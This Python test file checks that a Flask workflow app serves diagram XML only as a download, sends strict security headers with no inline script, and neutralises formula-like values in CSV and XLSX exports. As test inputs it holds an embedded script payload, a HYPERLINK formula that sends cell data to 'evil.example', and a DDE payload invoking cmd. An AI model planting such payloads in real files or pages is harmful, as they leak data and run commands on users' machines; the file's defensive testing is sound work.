"""No script from our responses, wherever it comes from: diagram XML is a download, pages carry a strict policy,
spreadsheet cells are never formulas. Through the Flask test client on the real database."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import HumanTask
from tests.conftest import QUERIER_ADD, REGISTRATION
from web.spreadsheet import neutralise
from workflows.editor.deploy import deploy_version
from workflows.editor.drafts import save_draft
from workflows.filing.applications import submit_application

BPMN_DIR = Path(__file__).resolve().parents[2] / "bpmn" / "kaohsiung"
QUERIER = (BPMN_DIR / "querier_account.bpmn").read_bytes()
# An XHTML script passes the diagram checks (it is foreign markup, not a BPMN element); rendered as XML, it would run.
XHTML_SCRIPT = QUERIER.replace(
    b"</bpmn:definitions>",
    b'<html:script xmlns:html="http://www.w3.org/1999/xhtml">window.__xss = 1</html:script></bpmn:definitions>')


def login(client, username: str):
    assert client.post("/login", data={"username": username, "password": "demo"}).status_code == 302
    return client


def assert_download(response, filename: str, body: bytes) -> None:
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == f"attachment; filename={filename}"
    assert response.mimetype == "application/octet-stream"  # no browser renders it, let alone runs it
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert response.data == body


def test_diagram_xml_is_a_download_on_every_route(app, api, session, person):
    now = datetime.now(UTC)
    deploy_version(session, XHTML_SCRIPT, key="querier_account", actor=person("admin"), now=now, note="x",
                   jurisdiction="kaohsiung")
    draft = save_draft(session, key="querier_account", xml=XHTML_SCRIPT, base_version=1, note=None,
                       actor=person("admin"), now=now)

    viewer = login(app.test_client(), "sw_staff")
    assert_download(viewer.get("/definitions/querier_account/versions/2.bpmn"), "querier_account-v2.bpmn",
                    XHTML_SCRIPT)
    admin = login(app.test_client(), "admin")
    assert_download(admin.get(f"/editor/drafts/{draft.id}.bpmn"), f"querier_account-draft-{draft.id}.bpmn",
                    XHTML_SCRIPT)
    assert_download(api.as_("applicant").get("/api/v1/process-definitions/querier_account/versions/2/xml"),
                    "querier_account-v2.bpmn", XHTML_SCRIPT)


# --- security headers on every page -------------------------------------------------------------------------------

def policy(response) -> dict[str, list[str]]:
    directives = (d.split() for d in response.headers["Content-Security-Policy"].split(";") if d.strip())
    return {d[0]: d[1:] for d in directives}


class InlineCode(HTMLParser):
    """What the policy would block in a page: inline <script> bodies and on...= handler attributes."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.found += [f"<{tag} {name}=...>" for name in attributes if name.startswith("on")]
        if tag == "script" and "src" not in attributes and attributes.get("type") != "application/json":
            self.found.append(f"inline <script> {self.getpos()}")


def assert_locked_down(response, url: str) -> None:
    assert response.headers["X-Frame-Options"] == "DENY", url
    assert response.headers["X-Content-Type-Options"] == "nosniff", url
    assert response.headers["Referrer-Policy"] == "same-origin", url
    directives = policy(response)
    assert directives["script-src"] == ["'self'"], url  # no 'unsafe-inline', no 'unsafe-eval', no other origin
    assert directives["frame-ancestors"] == ["'none'"] and directives["object-src"] == ["'none'"], url
    assert "'unsafe-inline'" not in directives["default-src"], url
    if response.mimetype == "text/html":
        parser = InlineCode()
        parser.feed(response.get_data(as_text=True))
        assert parser.found == [], (url, parser.found)


@pytest.fixture
def filed(session, person) -> dict[str, int]:
    querier = submit_application(session, form_key="querier_account", data=dict(QUERIER_ADD),
                                 actor=person("sw_staff"), now=datetime.now(UTC))
    registration = submit_application(session, form_key="query_registration", data=dict(REGISTRATION),
                                      actor=person("applicant"), now=datetime.now(UTC))
    task = session.scalar(select(HumanTask.id).where(HumanTask.application_id == registration.id))
    return {"querier": querier.id, "registration": registration.id, "task": task}


def main_pages(username: str, filed: dict[str, int]) -> list[str]:
    everyone = ["/", "/applications/new", "/applications/mine", "/applications/", "/dashboard", "/notifications/",
                "/api/v1/docs", f"/applications/{filed['registration']}"]
    return everyone + {
        "applicant": ["/applications/new/query_registration"],
        "sw_unit_head": [f"/tasks/{filed['task']}", "/dashboard?form=querier_account"],
        "admin": ["/admin/schedules", "/editor/", "/editor/querier_account/edit",
                  "/editor/querier_account/diff?a=1&b=1", "/editor/querier_account/migrate",
                  f"/applications/{filed['querier']}"],
    }[username]


@pytest.mark.parametrize("username", ["applicant", "sw_unit_head", "admin"])
def test_every_main_page_carries_the_security_headers_and_no_inline_code(app, filed, username):
    client = login(app.test_client(), username)
    for url in main_pages(username, filed):
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "text/html", url
        assert_locked_down(response, url)


def test_pages_without_a_login_errors_and_json_carry_them_too(app, api, filed):
    anonymous = app.test_client()
    for url, status in (("/login", 200), ("/", 302), ("/api/v1/openapi.json", 200), ("/static/js/diagram.js", 200)):
        response = anonymous.get(url)
        response.close()  # a static file is streamed from disk
        assert response.status_code == status, url
        assert_locked_down(response, url)
    staff = login(app.test_client(), "sw_staff")
    for url, status in (("/applications/999999", 404), (f"/tasks/{filed['task']}", 403),
                        (f"/applications/{filed['querier']}/trail.json", 200)):
        response = staff.get(url)
        assert response.status_code == status, url
        assert_locked_down(response, url)
    response = api.as_("applicant").get("/api/v1/tasks")
    assert response.status_code == 200
    assert_locked_down(response, "/api/v1/tasks")


# --- spreadsheet exports ------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"詳情")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("王美玲", "王美玲"), ("a=1", "a=1"), ("", ""), (-3, -3), (-1.5, -1.5), (0, 0), (None, None),
])
def test_only_text_that_starts_like_a_formula_is_changed(value, cell):
    assert neutralise(value) == cell


@pytest.fixture
def hostile_application(session, person) -> int:
    """An application whose applicant, current step and its holder all read like formulas."""
    deploy_version(session, QUERIER.replace('name="單位主管核准"'.encode(), f'name="{SUM}"'.encode()),
                   key="querier_account", actor=person("admin"), now=datetime.now(UTC), note="x",
                   jurisdiction="kaohsiung")
    person("sw_staff").name = HYPERLINK
    person("sw_unit_head").name = MINUS
    session.commit()
    return submit_application(session, form_key="querier_account", data=dict(QUERIER_ADD), actor=person("sw_staff"),
                              now=datetime.now(UTC)).id


def test_the_csv_export_writes_formulas_as_text(client, hostile_application):
    login(client, "sw_head")
    text = client.get("/applications/export.csv").get_data(as_text=True)
    [row] = [r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if r[0] == str(hostile_application)]
    assert (row[2], row[6], row[7]) == ("'" + HYPERLINK, "'" + SUM, "'" + MINUS)


def test_the_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(client, hostile_application):
    login(client, "sw_head")
    sheet = load_workbook(io.BytesIO(client.get("/applications/export.xlsx").data)).active
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile_application]
    assert (row[2].value, row[6].value, row[7].value) == ("'" + HYPERLINK, "'" + SUM, "'" + MINUS)
    assert all(c.data_type == "s" for c in (row[2], row[6], row[7]))  # text, never a formula ("f")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    assert (row[0].data_type, row[8].data_type) == ("n", "n")  # the id and the days waited stay numbers
